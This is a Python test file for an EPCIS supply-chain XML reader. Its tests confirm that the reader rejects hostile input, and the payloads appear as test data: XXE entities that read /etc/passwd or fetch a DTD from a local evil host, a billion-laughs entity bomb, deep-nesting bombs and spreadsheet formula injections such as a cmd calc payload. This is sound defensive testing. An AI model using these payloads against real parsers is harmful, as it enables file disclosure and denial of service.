"""EPCIS XML capture documents read into the JSON-LD binding's events: twins hash alike, errors name the XML path,
hostile documents (DTDs, entities, deep nesting) are refused before anything is built."""

from __future__ import annotations

import io
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import orjson
import pytest

from graph_schema.epcis.capture import SourceItem
from graph_schema.epcis.limits import LIMIT_EXCEEDED, ReadingLimits
from graph_schema.epcis.master_data import MasterData
from graph_schema.epcis.model import EpcisEvent, EventError
from graph_schema.epcis.reading import document_source, single_event
from graph_schema.epcis.xml_reading import (
    XML_DTD_FORBIDDEN,
    XmlRefused,
    check_prolog,
    read_single_xml_event,
    xml_document_source,
)
from graph_schema.epcis.xml_schema import XML_SCHEMA_INVALID
from tests.epcis_data import OPENEPCIS, xml_schemas

XML = OPENEPCIS / "XML" / "Capture"
OWN_1_2 = Path(__file__).resolve().parents[1] / "data" / "epcis-1.2"
# Two documents of OpenEPCIS's "valid" folder that the GS1 EPCIS 2.0 XSD rejects (the hub checks every XML document
# against it): their fields out of the schema's order, and events as epcis:-qualified elements. The XSD's message,
# the element's path and its line:
NOT_SCHEMA_VALID = {
    "JumbledFieldsOrder": (
        "/epcis:EPCISDocument/EPCISBody/EventList/TransactionEvent[1]/disposition",
        8,
        "Element 'disposition': This element is not expected. Expected is ( eventTime ).",
    ),
    "Namespace_document": (
        "/epcis:EPCISDocument/EPCISBody/EventList/epcis:ObjectEvent[1]",
        5,
        "Element '{urn:epcglobal:epcis:xsd:2}ObjectEvent': This element is not expected.",
    ),
}


# epcs left out: epcisDocWithSensorComponent writes one GRAI with another company-prefix split in each binding
# (the same GS1 key, so the same hash)
MAPPED = {
    "type", "event_time", "action", "biz_step", "disposition", "read_point", "biz_location", "parent_id",
    "quantities", "input_epcs", "input_quantities", "output_epcs", "output_quantities", "sources", "destinations",
    "biz_transactions",
}  # fmt: skip


def read(path: Path, limits: ReadingLimits | None = None) -> list[SourceItem]:
    return [item for _, item in xml_document_source(path, schemas=xml_schemas(), limits=limits)()]


def read_bytes(data: bytes, tmp_path: Path, limits: ReadingLimits | None = None) -> list[SourceItem]:
    path = tmp_path / "document.xml"
    path.write_bytes(data)
    return read(path, limits)


def errors_of(results: list[SourceItem]) -> list[EventError]:
    return [error for item in results if isinstance(item, list) for error in item]


def twins() -> list[Path]:
    documents = sorted((XML / "Documents").glob("*.xml"))
    return [path for path in documents if _twin(path).exists() and path.stem not in NOT_SCHEMA_VALID]


def _twin(path: Path) -> Path:
    return OPENEPCIS / "Capture" / "Documents" / f"{path.stem}.json"


@pytest.mark.parametrize("path", twins(), ids=lambda p: p.stem)
def test_each_xml_document_hashes_like_its_json_twin(path: Path) -> None:
    from_xml = read(path)
    from_json = [item for _, item in document_source(_twin(path))()]
    assert errors_of(from_xml) == []
    assert len(from_xml) == len(from_json) > 0
    for xml_event, json_event in zip(from_xml, from_json, strict=True):
        assert isinstance(xml_event, EpcisEvent)
        assert isinstance(json_event, EpcisEvent)
        assert (xml_event.type, xml_event.event_hash, xml_event.event_id) == (
            json_event.type,
            json_event.event_hash,
            json_event.event_id,
        )
        # the same normalised event where the graph mapping reads it (sensor data and ilmd are kept as written)
        assert xml_event.model_dump(include=MAPPED) == json_event.model_dump(include=MAPPED)


def test_twins_cover_most_of_the_xml_documents() -> None:
    assert len(twins()) == 34  # of 37 documents: two have no JSON twin, one is not schema-valid


@pytest.mark.parametrize(
    "path",
    [p for p in sorted((XML / "Documents").glob("*.xml")) if p.stem not in NOT_SCHEMA_VALID],
    ids=lambda p: p.stem,
)
def test_every_schema_valid_xml_document_reads_without_errors(path: Path) -> None:
    results = read(path)
    assert results
    assert errors_of(results) == []


def assert_schema_violation(errors: list[EventError], where: str, line: int, says: str) -> None:
    """One error for the whole document: the XSD's own message, at the element's path and line."""
    assert [(error.code, error.index, error.field) for error in errors] == [(XML_SCHEMA_INVALID, None, where)]
    assert errors[0].message.startswith(f"line {line}, {where}: the document does not follow the GS1 EPCIS XML")
    assert says in errors[0].message
    assert errors[0].message.endswith("nothing of the document was captured")


@pytest.mark.parametrize("name", sorted(NOT_SCHEMA_VALID))
def test_schema_invalid_documents_are_refused_by_the_xsd(name: str) -> None:
    # openepcis files these as valid; the GS1 XSD does not, and the hub follows the XSD
    assert_schema_violation(errors_of(read(XML / "Documents" / f"{name}.xml")), *NOT_SCHEMA_VALID[name])


_EVENT = "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[1]"
# each invalid document: the path, line and message of the XSD's verdict (the bare event is no EPCISDocument at all)
INVALID = {
    "ObjectEvent_with_invalid_action": (
        f"{_EVENT}/action",
        12,
        "The value 'CREATE' is not an element of the set {'ADD', 'OBSERVE', 'DELETE'}.",
    ),
    "ObjectEvent_with_invalid_eventTime_format": (
        f"{_EVENT}/eventTime",
        7,
        "Element 'eventTime': '22-07-2026' is not a valid value of the atomic type",
    ),
    "ObjectEvent_with_near_miss_action": (f"{_EVENT}/action", 13, "The value 'OBSERV' is not an element of the set"),
    "ObjectEvent_with_unknown_element": (f"{_EVENT}/madeUpField", 13, "Element 'madeUpField': This element is not"),
    "ObjectEvent_with_wrong_element_order": (
        f"{_EVENT}/action",
        7,
        "Element 'action': This element is not expected. Expected is ( eventTime ).",
    ),
    "ObjectEvent_without_eventTime": (
        f"{_EVENT}/eventTimeZoneOffset",
        7,
        "Element 'eventTimeZoneOffset': This element is not expected. Expected is ( eventTime ).",
    ),
}


def test_the_invalid_folder_is_covered() -> None:
    assert {path.stem for path in (XML / "Invalid").glob("*.xml")} == set(INVALID) | {
        "ObjectEvent_bare_event_without_action"
    }


@pytest.mark.parametrize("name", sorted(INVALID))
def test_every_invalid_xml_document_is_rejected_with_the_xsds_message_and_path(name: str) -> None:
    assert_schema_violation(errors_of(read(XML / "Invalid" / f"{name}.xml")), *INVALID[name])


def test_a_bare_event_is_no_capture_document() -> None:
    errors = errors_of(read(XML / "Invalid" / "ObjectEvent_bare_event_without_action.xml"))
    assert [error.field for error in errors] == ["/ObjectEvent"]
    assert "the root element must be an EPCISDocument" in errors[0].message


def test_a_deeper_field_is_named_by_its_element_and_attribute_path(tmp_path: Path) -> None:
    document = (XML / "Documents" / "ObjectEvent.xml").read_text()
    wrong = document.replace('type="urn:epcglobal:cbv:btt:desadv"', 'type="urn:epcglobal:cbv:btt:not_a_type"')
    wrong = wrong.replace("<bizStep>urn:epcglobal:cbv:bizstep:receiving</bizStep>", "<bizStep>=HYPERLINK(1)</bizStep>")
    errors = errors_of(read_bytes(wrong.encode(), tmp_path))
    fields = {error.field for error in errors}
    assert (
        "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[2]/bizTransactionList/bizTransaction[2]/@type" in fields
    )
    # a formula where a business step belongs is no vocabulary term: refused, never stored
    assert "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[2]/bizStep" in fields
    assert all(error.index == 1 for error in errors)


def test_own_epcis_1_2_document_reads_as_its_2_0_twin() -> None:
    from_xml = read(OWN_1_2 / "food_chain_1_2.xml")
    from_json = [item for _, item in document_source(OWN_1_2 / "food_chain_1_2.jsonld")()]
    assert errors_of(from_xml) == []
    assert errors_of(from_json) == []
    assert [(e.type, e.event_hash, e.event_id) for e in from_xml if isinstance(e, EpcisEvent)] == [
        (e.type, e.event_hash, e.event_id) for e in from_json if isinstance(e, EpcisEvent)
    ]
    assert len(from_xml) == 5  # the TransformationEvent in 1.2's EventList/extension included


def test_a_1_2_quantity_event_is_refused_with_the_way_to_write_it(tmp_path: Path) -> None:
    data = textwrap.dedent("""\
        <epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:1" schemaVersion="1.2"
            creationDate="2026-09-05T10:00:00Z"><EPCISBody><EventList><QuantityEvent>
            <eventTime>2026-09-05T06:00:00+09:00</eventTime><eventTimeZoneOffset>+09:00</eventTimeZoneOffset>
            <epcClass>urn:epc:idpat:sgtin:0614141.107346.*</epcClass><quantity>5</quantity>
        </QuantityEvent></EventList></EPCISBody></epcis:EPCISDocument>""").encode()
    errors = errors_of(read_bytes(data, tmp_path))
    assert len(errors) == 1
    assert "write an ObjectEvent with a quantityList" in errors[0].message


# --- hostile documents -----------------------------------------------------------------------------------------

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" creationDate="2026-09-05T10:00:00Z">
<EPCISBody><EventList><ObjectEvent><eventTime>2026-09-05T06:00:00+09:00</eventTime>
<eventTimeZoneOffset>+09:00</eventTimeZoneOffset><epcList><epc>&xxe;</epc></epcList><action>ADD</action>
</ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""
XXE_HTTP = XXE_FILE.replace(b"file:///etc/passwd", b"http://127.0.0.1:9/evil.dtd")
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
    creationDate="2026-09-05T10:00:00Z"/>"""
LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode() for n in range(1, 10)
    )
    + b']>\n<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" '
    b'creationDate="2026-09-05T10:00:00Z"><EPCISBody><EventList><ObjectEvent><eventTime>&lol9;</eventTime>'
    b"</ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"
)
PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE epcis:EPCISDocument SYSTEM "EPCglobal-epcis-2_0.dtd">
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
    creationDate="2026-09-05T10:00:00Z"/>"""
HOSTILE = {
    "xxe_file": XXE_FILE,
    "xxe_http": XXE_HTTP,
    "xxe_parameter": XXE_PARAMETER,
    "laughs": LAUGHS,
    "dtd": PLAIN_DTD,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_doctype_is_refused_before_any_event_is_read(name: str, tmp_path: Path) -> None:
    with pytest.raises(XmlRefused) as refused:
        check_prolog(io.BytesIO(HOSTILE[name]))
    assert refused.value.code == XML_DTD_FORBIDDEN
    # the job's reader refuses it too, with the same code, and reads nothing of /etc/passwd
    errors = errors_of(read_bytes(HOSTILE[name], tmp_path))
    assert [error.code for error in errors] == [XML_DTD_FORBIDDEN]
    assert "root:" not in errors[0].message


def test_nesting_past_the_depth_limit_is_refused_as_it_streams(tmp_path: Path) -> None:
    depth = 20_000
    head = (XML / "Documents" / "ObjectEvent.xml").read_bytes().split(b"</ObjectEvent>", 1)[0]
    data = head + b"<example:x>" * depth + b"</example:x>" * depth + b"</ObjectEvent></EventList></EPCISBody>"
    data += b"</epcis:EPCISDocument>"
    errors = errors_of(read_bytes(data, tmp_path, ReadingLimits(max_depth=32)))
    assert [error.code for error in errors] == [LIMIT_EXCEEDED]
    assert "nests deeper than 32 levels" in errors[0].message
    assert errors[0].index == 0


def test_an_event_past_its_size_limit_is_refused(tmp_path: Path) -> None:
    epcs = b"".join(b"<epc>urn:epc:id:sgtin:0614141.107346.%d</epc>" % n for n in range(2_000))
    data = (XML / "Documents" / "ObjectEvent.xml").read_bytes().replace(b"<epcList>", b"<epcList>" + epcs, 1)
    errors = errors_of(read_bytes(data, tmp_path, ReadingLimits(max_event_values=1_000)))
    assert [error.code for error in errors] == [LIMIT_EXCEEDED]
    assert "more than 1,000 XML elements" in errors[0].message


def test_broken_xml_says_where(tmp_path: Path) -> None:
    data = (XML / "Documents" / "ObjectEvent.xml").read_bytes().replace(b"</action>", b"</actoin>", 1)
    errors = errors_of(read_bytes(data, tmp_path))
    assert [error.code for error in errors] == ["XML_NOT_WELL_FORMED"]
    assert "line" in errors[0].message


def write_big_document(path: Path, events: int) -> None:
    """An EPCIS 2.0 XML document of ``events`` ObjectEvents, written as a stream."""
    with path.open("wb") as out:
        out.write(
            b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:hub="https://hub.example.org/"'
            b' schemaVersion="2.0" creationDate="2026-09-05T10:00:00Z"><EPCISBody><EventList>'
        )
        for n in range(events):
            out.write(
                b"<ObjectEvent><eventTime>2026-09-05T06:00:00+09:00</eventTime>"
                b"<eventTimeZoneOffset>+09:00</eventTimeZoneOffset><epcList>"
                b"<epc>urn:epc:id:sgtin:0614141.107346.%d</epc><epc>urn:epc:id:sgtin:0614141.107346.%d</epc></epcList>"
                b"<action>OBSERVE</action><bizStep>urn:epcglobal:cbv:bizstep:receiving</bizStep>"
                b"<readPoint><id>urn:epc:id:sgln:0614141.00777.0</id></readPoint>"
                b"<hub:note>%s</hub:note></ObjectEvent>\n" % (n, n + 1, b"x" * 600)
            )
        out.write(b"</EventList></EPCISBody></epcis:EPCISDocument>")


def test_a_100_mb_document_is_read_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    write_big_document(path, 112_000)
    assert path.stat().st_size > 100 * 1_048_576
    # in a process of its own, so that its peak resident memory is the reader's alone
    script = textwrap.dedent(f"""
        import resource
        from pathlib import Path
        from graph_schema.epcis.xml_reading import XmlDocumentReader
        from hub.epcis_xsd import default_folder, load_schemas
        schemas = load_schemas(default_folder())  # once per process, as in the hub: checked while streaming
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        count = 0
        with Path({str(path)!r}).open("rb") as stream:
            for index, event in XmlDocumentReader(stream, schemas=schemas).events():
                assert not isinstance(event, list), event
                count += 1
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print(count, (after - before) // 1024)
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True, timeout=600)
    count, grown_mb = map(int, done.stdout.split())
    assert count == 112_000
    assert grown_mb < 50, f"reading a 100 MB document grew the process by {grown_mb} MB"


def test_a_violation_deep_in_a_large_document_is_found_while_streaming_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    write_big_document(path, 5_000)
    lines = path.read_bytes().split(b"\n")
    # event 3,000 (line 3,000: one event a line) gets an action the XSD does not know
    lines[2_999] = lines[2_999].replace(b"<action>OBSERVE</action>", b"<action>=cmd|' /C calc'!A0</action>")
    path.write_bytes(b"\n".join(lines))
    results = [(index, item) for index, item in xml_document_source(path, schemas=xml_schemas())()]
    *events, (index, last) = results
    assert index == -1
    assert isinstance(last, list)
    assert_schema_violation(
        last,
        "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[3000]/action",
        3_000,
        "The value '=cmd|' /C calc'!A0' is not an element of the set {'ADD', 'OBSERVE', 'DELETE'}",
    )
    # found while streaming: the reading stopped well before the document's last event
    assert 2_900 < len(events) < 4_000
    assert all(isinstance(item, EpcisEvent) for _, item in events)


def test_the_1_2_xsd_checks_1_2_documents(tmp_path: Path) -> None:
    document = (OWN_1_2 / "food_chain_1_2.xml").read_text()
    # persistentDisposition is an EPCIS 2.0 field: in a 1.2 document it may only come as an extension
    assert "<bizStep>" in document
    wrong = document.replace("<bizStep>", "<persistentDisposition><set>x</set></persistentDisposition><bizStep>", 1)
    errors = errors_of(read_bytes(wrong.encode(), tmp_path))
    assert [error.code for error in errors] == [XML_SCHEMA_INVALID]
    assert "Element 'persistentDisposition': This element is not expected." in errors[0].message


def test_a_schema_location_in_the_document_is_never_followed(tmp_path: Path) -> None:
    # xsi:schemaLocation naming another schema (here an address that answers nothing and a local file) changes
    # nothing: the hub checks against its own copy of the GS1 XSD and reads nothing the document points at
    document = (XML / "Documents" / "ObjectEvent.xml").read_text()
    hint = ' xsi:schemaLocation="urn:epcglobal:epcis:xsd:2 http://127.0.0.1:9/evil.xsd urn:x file:///etc/passwd"'
    assert 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"' in document
    marked = document.replace("<epcis:EPCISDocument", "<epcis:EPCISDocument" + hint, 1)
    assert marked != document
    results = read_bytes(marked.encode(), tmp_path)
    assert errors_of(results) == []
    assert len(results) == len(read(XML / "Documents" / "ObjectEvent.xml"))


def test_a_capture_that_writes_as_it_reads_meets_the_xsd_before_its_first_event(tmp_path: Path) -> None:
    # GS1-Capture-Error-Behaviour: proceed writes batches as it reads: the XSD's verdict comes before any event
    path = tmp_path / "big.xml"
    write_big_document(path, 3_000)
    lines = path.read_bytes().split(b"\n")
    lines[2_499] = lines[2_499].replace(b"<action>OBSERVE</action>", b"<action>MOVE</action>")
    path.write_bytes(b"\n".join(lines))
    source = xml_document_source(path, schemas=xml_schemas(), schema_first=True)
    for _ in range(2):  # read again (a pass of its own per retry): the same verdict, first
        (index, item), *rest = list(source())
        assert index == -1
        assert rest == []
        assert isinstance(item, list)
        assert_schema_violation(
            item, "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[2500]/action", 2_500, "The value 'MOVE'"
        )
    valid = tmp_path / "valid.xml"
    write_big_document(valid, 50)
    results = list(xml_document_source(valid, schemas=xml_schemas(), schema_first=True)())
    assert len(results) == 50
    assert all(isinstance(item, EpcisEvent) for _, item in results)


def _header_with_locations(count: int, *, attributes: int = 1) -> bytes:
    element = (
        '<VocabularyElement id="urn:epc:id:sgln:8801234.00001.%d">'
        + '<attribute id="urn:epcglobal:cbv:mda:name">Room</attribute>' * attributes
        + "</VocabularyElement>"
    )
    return (
        b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"'
        b' creationDate="2026-11-28T10:00:00Z"><EPCISHeader><extension><EPCISMasterData><VocabularyList>'
        b'<Vocabulary type="urn:epcglobal:epcis:vtype:BusinessLocation"><VocabularyElementList>'
        + b"".join((element % n).encode() for n in range(count))
        + b"</VocabularyElementList></Vocabulary></VocabularyList></EPCISMasterData></extension></EPCISHeader>"
        b"<EPCISBody><EventList/></EPCISBody></epcis:EPCISDocument>"
    )


def test_a_huge_vocabulary_in_the_header_is_refused_before_any_event(tmp_path: Path) -> None:
    errors = errors_of(read_bytes(_header_with_locations(10_001), tmp_path))
    assert [(error.code, error.field) for error in errors] == [
        ("BAD_USER_INPUT", "/epcis:EPCISDocument/EPCISHeader/extension/EPCISMasterData/VocabularyList")
    ]
    assert "holds more than 10,000 vocabulary elements; send them in several documents" in errors[0].message


def test_a_header_past_what_the_reader_holds_is_refused_as_it_streams(tmp_path: Path) -> None:
    # 2,000 elements of 300 attributes: 602,000 XML elements, past the header's bound before it is read whole
    errors = errors_of(read_bytes(_header_with_locations(2_000, attributes=300), tmp_path))
    assert [(error.code, error.field) for error in errors] == [(LIMIT_EXCEEDED, "document")]
    assert "EPCISHeader holds more than 500,000 XML elements and attributes" in errors[0].message


# --- EPCISMasterDataDocument --------------------------------------------------------------------------------------


def _master_data_document(body: str, namespace: str = "urn:epcglobal:epcis-masterdata:xsd:2") -> bytes:
    return (
        f'<epcismd:EPCISMasterDataDocument xmlns:epcismd="{namespace}" schemaVersion="2.0"'
        f' creationDate="2026-11-28T10:00:00Z"><EPCISBody>{body}</EPCISBody></epcismd:EPCISMasterDataDocument>'
    ).encode()


_SITE = (
    '<VocabularyList><Vocabulary type="urn:epcglobal:epcis:vtype:BusinessLocation"><VocabularyElementList>'
    '<VocabularyElement id="urn:epc:id:sgln:8801234.00001.0">'
    '<attribute id="urn:epcglobal:cbv:mda:name">Eumseong tofu plant</attribute>'
    '<attribute id="urn:epcglobal:cbv:mda:countryCode">KR</attribute>'
    "</VocabularyElement></VocabularyElementList></Vocabulary></VocabularyList>"
)


def test_a_master_data_document_reads_as_master_data_alone(tmp_path: Path) -> None:
    results = read_bytes(_master_data_document(_SITE), tmp_path)
    assert len(results) == 1
    assert isinstance(results[0], MasterData)
    (location,) = results[0].locations
    assert (location.id, location.fields) == (
        "urn:epc:id:sgln:8801234.00001.0",
        {"name": "Eumseong tofu plant", "countryCode": "KR"},
    )
    assert location.path == (
        "/epcismd:EPCISMasterDataDocument/EPCISBody/VocabularyList/Vocabulary[1]/VocabularyElementList/"
        "VocabularyElement[1]"
    )


def test_a_master_data_document_the_xsd_refuses_names_the_element(tmp_path: Path) -> None:
    missing_id = _SITE.replace(' id="urn:epc:id:sgln:8801234.00001.0"', "")
    errors = errors_of(read_bytes(_master_data_document(missing_id), tmp_path))
    assert_schema_violation(
        errors,
        "/epcismd:EPCISMasterDataDocument/EPCISBody/VocabularyList/Vocabulary[1]/VocabularyElementList/"
        "VocabularyElement[1]",
        1,
        "Element 'VocabularyElement': The attribute 'id' is required but missing.",
    )


def test_a_master_data_document_with_a_bad_value_names_its_attribute(tmp_path: Path) -> None:
    errors = errors_of(read_bytes(_master_data_document(_SITE.replace(">KR<", ">Korea<")), tmp_path))
    where = (
        "/epcismd:EPCISMasterDataDocument/EPCISBody/VocabularyList/Vocabulary[1]/VocabularyElementList/"
        "VocabularyElement[1]/attribute[2]"
    )
    assert [(error.code, error.field) for error in errors] == [("BAD_USER_INPUT", where)]
    assert "cbvmda:countryCode must be an ISO 3166-1 alpha-2 country code" in errors[0].message


def test_xxe_in_a_master_data_document_is_refused(tmp_path: Path) -> None:
    evil = _master_data_document(_SITE.replace("Eumseong tofu plant", "&xxe;"))
    evil = b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + evil
    with pytest.raises(XmlRefused) as refused:
        check_prolog(io.BytesIO(evil))
    assert refused.value.code == XML_DTD_FORBIDDEN
    errors = errors_of(read_bytes(evil, tmp_path))
    assert [error.code for error in errors] == [XML_DTD_FORBIDDEN]
    assert "root:" not in errors[0].message


def test_json_ld_master_data_document_reads_like_the_xml_one(tmp_path: Path) -> None:
    document: dict[str, Any] = {
        "@context": ["https://ref.gs1.org/standards/epcis/epcis-context.jsonld", {"cbvmda": "urn:epcglobal:cbv:mda:"}],
        "type": "EPCISMasterDataDocument",
        "schemaVersion": "2.0",
        "creationDate": "2026-11-28T10:00:00Z",
        "epcisBody": {
            "vocabularyList": [
                {
                    "type": "urn:epcglobal:epcis:vtype:BusinessLocation",
                    "vocabularyElementList": [
                        {
                            "id": "urn:epc:id:sgln:8801234.00001.0",
                            "attributes": [
                                {"id": "cbvmda:name", "attribute": "Eumseong tofu plant"},
                                {"id": "cbvmda:countryCode", "attribute": "KR"},
                            ],
                        }
                    ],
                }
            ]
        },
    }
    path = tmp_path / "md.jsonld"
    path.write_bytes(orjson.dumps(document))
    (item,) = [item for _, item in document_source(path)()]
    assert isinstance(item, MasterData)
    from_xml = read_bytes(_master_data_document(_SITE), tmp_path)[0]
    assert isinstance(from_xml, MasterData)
    assert [(x.id, x.fields, x.attributes) for x in item.locations] == [
        (x.id, x.fields, x.attributes) for x in from_xml.locations
    ]
    # and its own faults at their JSON paths
    document["epcisBody"]["vocabularyList"][0]["vocabularyElementList"][0]["attributes"][1]["attribute"] = "Korea"
    document["schemaVersion"] = "1.2"
    path.write_bytes(orjson.dumps(document))
    errors = errors_of([item for _, item in document_source(path)()])
    assert [error.field for error in errors] == ["schemaVersion"]
    document["schemaVersion"] = "2.0"
    path.write_bytes(orjson.dumps(document))
    errors = errors_of([item for _, item in document_source(path)()])
    assert [error.field for error in errors] == [
        "epcisBody.vocabularyList[0].vocabularyElementList[0].attributes[1].attribute"
    ]


# --- one event (POST /epcis/events) -------------------------------------------------------------------------------

BARE = sorted(path for path in (XML / "Events").glob("*.xml") if path.stem != "Namespace_event")


def read_one(body: bytes) -> EpcisEvent | list[EventError]:
    return read_single_xml_event(body, schemas=xml_schemas())


@pytest.mark.parametrize("path", BARE, ids=lambda p: p.stem)
def test_each_bare_xml_event_hashes_like_its_json_twin(path: Path) -> None:
    body = path.read_bytes()
    # not quite twins: the XML has an empty <rail:vehicleMasterGIAI/> that the JSON leaves out; without it, they are
    body = body.replace(b"<rail:vehicleMasterGIAI/>", b"")
    from_xml = read_one(body)
    from_json = single_event((OPENEPCIS / "Capture" / "Events" / f"{path.stem}.json").read_bytes())
    assert isinstance(from_xml, EpcisEvent), from_xml
    assert isinstance(from_json, EpcisEvent), from_json
    assert (from_xml.type, from_xml.event_hash, from_xml.event_id) == (
        from_json.type,
        from_json.event_hash,
        from_json.event_id,
    )


def test_the_one_event_of_a_document_is_the_same_event() -> None:
    document = (XML / "Documents" / "TransformationEvent.xml").read_bytes()
    from_document = read_one(document)
    assert isinstance(from_document, EpcisEvent), from_document
    (from_capture,) = [item for item in read(XML / "Documents" / "TransformationEvent.xml")]
    assert isinstance(from_capture, EpcisEvent)
    assert from_document.event_hash == from_capture.event_hash


def test_a_bare_event_the_xsd_refuses_is_named_as_sent() -> None:
    body = (
        (XML / "Events" / "ObjectEvent.xml").read_bytes().replace(b"<action>OBSERVE</action>", b"<action>PUT</action>")
    )
    assert b"<action>PUT</action>" in body
    errors = read_one(body)
    assert isinstance(errors, list)
    line = body[: body.index(b"<action>PUT")].count(b"\n") + 1
    assert_schema_violation(errors, "/ObjectEvent/action", line, "The value 'PUT' is not an element of the set")


def test_a_bare_event_with_a_declaration_keeps_its_lines() -> None:
    body = b'<?xml version="1.0" encoding="UTF-8"?>\n' + (XML / "Events" / "ObjectEvent.xml").read_bytes()
    assert isinstance(read_one(body), EpcisEvent)
    wrong = body.replace(b"<action>OBSERVE</action>", b"<action>PUT</action>")
    errors = read_one(wrong)
    assert isinstance(errors, list)
    line = wrong[: wrong.index(b"<action>PUT")].count(b"\n") + 1
    assert line > 1
    assert errors[0].message.startswith(f"line {line}, /ObjectEvent/action: ")


@pytest.mark.parametrize(
    ("body", "code", "says"),
    [
        ((XML / "Documents" / "ObjectEvent.xml").read_bytes(), "BAD_USER_INPUT", "holds more than one event"),
        ((XML / "Events" / "Namespace_event.xml").read_bytes(), "BAD_USER_INPUT", "the root element is epcis:"),
        (XXE_FILE, XML_DTD_FORBIDDEN, "DOCTYPE"),
        (LAUGHS, XML_DTD_FORBIDDEN, "DOCTYPE"),
        (b"<ObjectEvent><eventTime>", "XML_NOT_WELL_FORMED", "not well-formed"),
        (_master_data_document(_SITE), "BAD_USER_INPUT", "EPCISMasterDataDocument: send it to /epcis/capture"),
    ],
    ids=["two events", "qualified event", "xxe", "laughs", "broken", "master data"],
)
def test_what_is_not_one_event_is_refused_with_its_reason(body: bytes, code: str, says: str) -> None:
    errors = read_one(body)
    assert isinstance(errors, list)
    assert errors[0].code == code
    assert says in errors[0].message
    assert "root:" not in errors[0].message
